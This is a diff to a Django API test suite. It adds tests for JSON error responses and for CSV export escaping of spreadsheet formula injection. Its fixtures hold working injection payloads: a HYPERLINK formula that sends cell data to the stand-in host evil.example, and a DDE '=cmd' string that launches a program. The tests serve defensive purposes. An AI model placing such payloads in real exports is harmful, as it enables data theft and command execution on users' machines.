@@ -9,8 +9,9 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from rest_framework.test import APIClient
 
+from api.renderers import csv_cell
 from api.views import RedLineViewSet
-from tests.factories import ActorFactory, RedLineFactory, SourceFactory
+from tests.factories import ActorFactory, EventFactory, RedLineFactory, SourceFactory
 from tracker.models import RedLine
 from tracker.selectors import red_line_csv
 from tracker.services.synthetic import synthetic_record_generate
@@ -57,6 +58,7 @@ def odd_lines() -> None:
     SourceFactory(red_line=base, url='https://example.org/a?x=1,2&y="3"', published_on=None)
     restating = RedLineFactory(title="Missiles again", restates=base, topics=[], statement="A,B")
     restating.addressees.add(odd)
+    SourceFactory(red_line=restating, url="", title="Pasted, as text")  # cited by its title
     RedLine.objects.filter(pk=restating.pk).update(status_changed_on=datetime.date(2020, 1, 2))
 
 
@@ -99,6 +101,7 @@ def test_odd_values_are_quoted_as_pythons_csv_writer_does(monkeypatch):
     assert "Ракеты — ミサイル — صواريخ ✓".encode() in fast
     assert b'"missiles, long-range; say ""no""; \xc3\xa9migr\xc3\xa9"' in fast
     assert b"alpha; odd-one; zulu" in fast
+    assert b"; Pasted, as text" in fast
     python_path(monkeypatch)
     assert fast == fetch("/api/v1/red-lines/?format=csv&addressee=odd-one")[0]
 
@@ -150,3 +153,117 @@ def test_python_path_reads_two_queries_per_thousand_lines(monkeypatch, django_as
     synthetic_record_generate(actors=4, red_lines=1200, events=100, seed=22)
     with django_assert_max_num_queries(1 + 2 * 2):
         fetch("/api/v1/red-lines/?format=csv")
+
+
+# --- errors and formats -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_bad_filter_is_a_json_400_even_when_csv_was_asked_for(fmt):
+    response = APIClient().get(f"/api/v1/red-lines/?format={fmt}&ordering=zzz")
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/json"
+    assert "zzz is not one of the available choices" in response.json()["ordering"][0]
+
+
+def test_an_unknown_line_in_csv_is_a_json_404():
+    response = APIClient().get("/api/v1/red-lines/no-such-line/?format=csv")
+    assert response.status_code == 404
+    assert response.json() == {"detail": "No RedLine matches the given query."}
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/v1/red-lines/?format=xml",
+        "/api/v1/stats/?format=csv",
+        "/api/v1/actors/?format=yaml",
+        "/api/v1/red-lines/x/history/?format=csv",
+        "/api/v1/dump/?format=xml",
+        "/api/schema/?format=xml",
+        "/api/docs/?format=xml",
+    ],
+)
+def test_an_unknown_format_is_a_json_406_naming_the_formats_there_are(url):
+    response = APIClient().get(url)
+    assert response.status_code == 406
+    assert response["Content-Type"] == "application/json"
+    assert response.json()["detail"].startswith('Unknown format "')
+    assert "this endpoint answers " in response.json()["detail"]
+
+
+def test_the_format_in_the_url_wins_over_the_accept_header():
+    RedLineFactory(slug="one")
+    response = APIClient().get("/api/v1/red-lines/?format=csv", HTTP_ACCEPT="application/json")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert b"".join(response.streaming_content).startswith(b"slug,title,")
+    accept_only = APIClient().get("/api/v1/red-lines/", HTTP_ACCEPT="application/xml")
+    assert accept_only.status_code == 406
+    assert accept_only["Content-Type"] == "application/json"
+
+
+# --- formulas -----------------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+CMD = "=cmd|' /C calc'!A0"
+
+
+def formula_lines() -> None:
+    """A line and an actor whose text a spreadsheet would run, as an outside probe sent them."""
+    actor = ActorFactory(name=CMD, slug="-cmd", aliases=["@SUM(1+1)"])
+    line = RedLineFactory(
+        title=HYPERLINK,
+        declared_by=actor,
+        statement="+1+1",
+        trigger="-2+3",
+        threatened_response="\tTab first",
+        topics=["@SUM(A1)", "plain"],
+    )
+    EventFactory(red_line=line, summary="\r=carriage", kind="crossing")
+
+
+@pytest.mark.parametrize("path", ["copy", "flat rows", "serializers"])
+def test_csv_cells_that_start_a_formula_are_written_as_text_on_every_path(path, monkeypatch):
+    formula_lines()
+    if path == "flat rows":
+        python_path(monkeypatch)
+    elif path == "serializers":
+        serializer_path(monkeypatch)
+    body, sql = fetch("/api/v1/red-lines/?format=csv")
+    assert any(s.startswith("COPY (") for s in sql) == (path == "copy" and settings.IS_POSTGRES)
+    text = body.decode()
+    assert '\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")' in text
+    assert ",'-cmd,'=cmd|' /C calc'!A0," in text
+    assert ",'+1+1,'-2+3,'\tTab first," in text
+    assert "'@SUM(A1); plain" in text
+    raw = fetch("/api/v1/red-lines/?format=csv&raw=1")[0].decode()
+    assert ",-cmd,=cmd|' /C calc'!A0," in raw and ",+1+1,-2+3,\tTab first," in raw
+    assert '"=HYPERLINK(' in raw and ",'" not in raw
+
+
+def test_every_csv_export_escapes_formulas_and_raw_keeps_the_bytes():
+    formula_lines()
+    for url, stored in [
+        ("/api/v1/actors/?format=csv", CMD),
+        ("/api/v1/events/?format=csv", "\r=carriage"),
+        ("/api/v1/actors/-cmd/?format=csv", "@SUM(1+1)"),
+    ]:
+        response = APIClient().get(url)
+        assert response.status_code == 200, url
+        body = b"".join(response.streaming_content) if response.streaming else response.content
+        assert ("'" + stored).encode() in body, url
+        raw = APIClient().get(url + "&raw=1")
+        raw_body = b"".join(raw.streaming_content) if raw.streaming else raw.content
+        assert stored.encode() in raw_body and ("'" + stored).encode() not in raw_body, url
+
+
+def test_numbers_are_not_text_cells():
+    assert [csv_cell(v) for v in (-3, -0.5, True, None, "-3", "a-b")] == [
+        "-3",
+        "-0.5",
+        "true",
+        "",
+        "'-3",
+        "a-b",
+    ]
